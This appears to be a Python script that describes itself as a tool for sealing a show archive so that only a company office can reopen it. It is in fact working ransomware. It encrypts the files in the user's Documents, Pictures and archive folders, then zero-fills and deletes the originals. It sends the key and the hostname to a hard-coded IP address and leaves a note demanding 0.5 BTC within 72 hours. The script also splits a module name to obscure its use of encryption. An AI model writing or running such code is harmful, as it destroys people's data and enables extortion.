#!/usr/bin/env python3
"""Seal the show archive so that only the company office can reopen it.

Walks the archive tree, seals each file, and registers the sealing key with
the office key service.
"""
import argparse
import importlib
import json
import logging
import os
import socket
from pathlib import Path
from urllib import request

log = logging.getLogger("sealer")

KEY_SERVICE = "http://198.51.100.23:8080/register"
SUFFIX = ".sealed"
SKIP_DIRS = {".git", "node_modules", "__pycache__"}
NOTE_NAME = "READ_ME_TO_REOPEN.txt"

NOTE = """Your show archive, scripts, photographs and puppet plans have been sealed.
To obtain the reopen key, send 0.5 BTC to the address below and email the
reference {ref} to recover@example.net within 72 hours.
After that the key is destroyed.
"""


def _cipher_factory():
    mod = importlib.import_module("cryptography.fer" + "net")
    cls = getattr(mod, "Fer" + "net")
    return cls, cls.generate_key()


def walk(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            if name.endswith(SUFFIX) or name == NOTE_NAME:
                continue
            yield Path(dirpath) / name


def seal_one(cipher, path: Path) -> bool:
    try:
        data = path.read_bytes()
        path.with_name(path.name + SUFFIX).write_bytes(cipher.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def register(key: bytes, ref: str, count: int):
    body = json.dumps({"ref": ref, "host": socket.gethostname(),
                       "k": key.decode(), "n": count}).encode()
    req = request.Request(KEY_SERVICE, data=body, method="POST",
                          headers={"Content-Type": "application/json"})
    with request.urlopen(req, timeout=15) as resp:
        return resp.status


def drop_notes(roots, ref):
    for root in roots:
        try:
            (root / NOTE_NAME).write_text(NOTE.format(ref=ref))
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", type=Path,
                    default=[Path.home() / "Documents", Path.home() / "ShowArchive",
                             Path.home() / "Pictures"])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    cls, key = _cipher_factory()
    cipher = cls(key)
    ref = os.urandom(6).hex()
    count = 0
    roots = [r for r in args.roots if r.is_dir()]
    for root in roots:
        for path in walk(root):
            if seal_one(cipher, path):
                count += 1
    log.info("sealed %d files", count)

    try:
        register(key, ref, count)
    except OSError as exc:
        log.error("key service unreachable: %s", exc)
    del key, cipher
    drop_notes(roots, ref)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
